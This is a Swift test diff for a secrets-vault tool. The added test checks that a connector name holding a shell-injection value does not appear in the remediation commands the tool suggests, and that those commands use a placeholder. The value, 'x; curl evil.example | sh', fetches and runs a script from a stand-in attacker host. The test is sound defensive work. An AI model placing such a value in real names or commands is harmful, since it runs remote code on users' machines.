@@ -27,6 +27,16 @@ struct InsiderTests {
     #expect(try ada.connectors().filter { !$0.item.isRetired }.map(\.details.name) == ["crm-sync"])
   }
 
+  @Test func `a name that would run in a shell stands in no command`() throws {
+    let name = "x; curl evil.example | sh"
+    let details = ConnectorDetails(name: name, provider: "google", connectorID: "g")
+    try vault.session(.dev).commit { transaction in
+      try transaction.add(.connector, name, metadata: details.metadata, secret: secret("s")) { _, _, _ in }
+    }
+    let remedies = Set(try vault.session(.ada).exposures().filter { $0.kind == .connector }.map(\.remedy))
+    #expect(remedies == ["custody connector rotate crm-sync", "custody connector rotate NAME"])
+  }
+
   @Test func `no key of a developer or an auditor opens what was not shared with them`() throws {
     let raw = try RawFile(vault.path)
     let envelopes = try raw.rows("SELECT quote(sealed) FROM envelope WHERE sealed IS NOT NULL").map {
